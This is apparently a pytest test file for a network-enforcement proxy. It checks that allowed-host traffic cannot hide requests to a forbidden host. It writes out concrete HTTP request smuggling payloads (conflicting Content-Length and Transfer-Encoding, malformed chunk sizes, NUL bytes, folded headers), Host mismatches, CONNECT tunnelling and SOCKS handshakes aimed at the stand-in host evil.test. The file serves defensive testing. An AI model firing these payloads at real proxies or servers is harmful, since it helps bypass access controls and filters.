"""Every request is judged by itself, and one that can be read in two ways is not passed on."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from tests.enforcement.network.attacks.conftest import MakeTrial, Trial
    from tests.enforcement.network.conftest import Net, Open

#: A first request for an allowed host, then what follows it, or hides in it.
_SMUGGLED = (
    "GET http://evil.test:{facts['http']}/{mark} HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n"
)
_FIRST = "http://web.test:{facts['http']}/"


def _framing(*lines: str, body: str, line_end: str = r"\r\n") -> str:
    """Return an attack that hides a request in what one reader takes for a body and another does not."""
    fields = "".join(f"{line}{line_end}" for line in lines)
    return (
        f"head = f\"POST {_FIRST} HTTP/1.1{line_end}Host: web.test:{{facts['http']}}{line_end}\".encode() + auth\n"
        f'end = codes(proxy(head + f"{fields}{line_end}{body}".encode()))'
    )


ATTACKS: dict[str, tuple[str, str]] = {
    "a second host on a kept connection": (
        f'end = codes(proxy(request(f"{_FIRST}"), f"{_SMUGGLED}".encode().replace(b"Conn", auth + b"Conn")))',
        "200 403",
    ),
    "a second host by CONNECT on a kept connection": (
        """
with to_proxy() as stream:
    stream.sendall(request(f"http://web.test:{facts['http']}/", "X: " + "y" * 10))
    time.sleep(0.2)
    stream.sendall(request(f"evil.test:{facts['http']}", method="CONNECT", host="evil.test"))
    time.sleep(0.2)
    stream.sendall(f"GET /{mark} HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n".encode())
    end = codes(hear(stream))
""",
        "200 403",
    ),
    "another host in the header than in the target": (
        f'end = codes(proxy(request(f"{_FIRST}", "Connection: close", host=f"{{mark}}.evil.test")))',
        "200",
    ),
    "two host headers": (
        f'end = codes(proxy(request(f"{_FIRST}{{mark}}", "Host: evil.test", "Connection: close")))',
        "400",
    ),
    "two lengths": (_framing("Content-Length: 0", "Content-Length: 170", body=_SMUGGLED), "400"),
    "a list of lengths": (_framing("Content-Length: 0, 170", body=_SMUGGLED), "400"),
    "length and chunks": (
        _framing("Content-Length: 170", "Transfer-Encoding: chunked", body=r"0\r\n\r\n" + _SMUGGLED),
        "400",
    ),
    "a length with a sign": (_framing("Content-Length: +0", body=_SMUGGLED), "400"),
    "a length with a space before its colon": (_framing("Content-Length : 0", body=_SMUGGLED), "400"),
    "an encoding that is almost chunked": (
        _framing("Transfer-Encoding: xchunked", "Content-Length: 0", body=_SMUGGLED),
        "501",
    ),
    "bare line feeds": (_framing("Content-Length: 0", body=_SMUGGLED, line_end=r"\n"), "400"),
    "a folded line": (_framing("X: y", r" z: {mark}", "Content-Length: 0", body=_SMUGGLED), "400"),
    "a NUL in a header": (_framing(r"X: y\0z", "Content-Length: 0", body=_SMUGGLED), "400"),
    "a chunk size that is too large": (
        _framing("Transfer-Encoding: chunked", body=r"00000000000000000\r\n\r\n" + _SMUGGLED),
        "400",
    ),
    "no credentials": (
        "end = codes(proxy(f\"GET http://web.test:{facts['http']}/{mark} HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n\"))",
        "407",
    ),
    "wrong credentials": (
        """
words = f"GET http://web.test:{facts['http']}/{mark} HTTP/1.1\\r\\nHost: web.test\\r\\n"
end = codes(proxy(words + "Proxy-Authorization: Basic YWRhOndyb25n\\r\\nConnection: close\\r\\n\\r\\n"))
""",
        "407",
    ),
    "CONNECT to another port": (
        """
stream, said = tunnel(f"web.test:{facts['hidden']}")
if codes(said) == "200":
    stream.sendall(f"GET /{mark} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n".encode())
    hear(stream)
end = codes(said)
""",
        "403",
    ),
    "SOCKS 4": (
        """
stream = to_proxy()
stream.sendall(b"\\4\\1" + facts["http"].to_bytes(2, "big") + socket.inet_aton("127.0.0.1") + b"ada\\0")
reply = hear(stream, 1)
end = "granted" if reply[1:2] == b"\\x5a" else "closed"
if end == "granted":
    stream.sendall(f"GET /{mark} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n".encode())
    hear(stream)
""",
        "closed",
    ),
    "SOCKS 5 without credentials": (
        """
stream = to_proxy()
stream.sendall(b"\\5\\1\\0")
end = stream.recv(2).hex()
if end == "0500":
    stream.sendall(b"\\5\\1\\0\\3\\x08web.test" + facts["http"].to_bytes(2, "big"))
    stream.recv(10)
    stream.sendall(f"GET /{mark} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n".encode())
    hear(stream)
""",
        "05ff",
    ),
}


@pytest.fixture(scope="module")
def trial(net: Net, opened: Open, make_trial: MakeTrial) -> Trial:
    return make_trial(ATTACKS, opened(*net.allow("web.test")))


@pytest.mark.parametrize("name", ATTACKS)
def test_no_request_hides_behind_another(trial: Trial, name: str) -> None:
    trial.judge(name, ATTACKS[name][1])
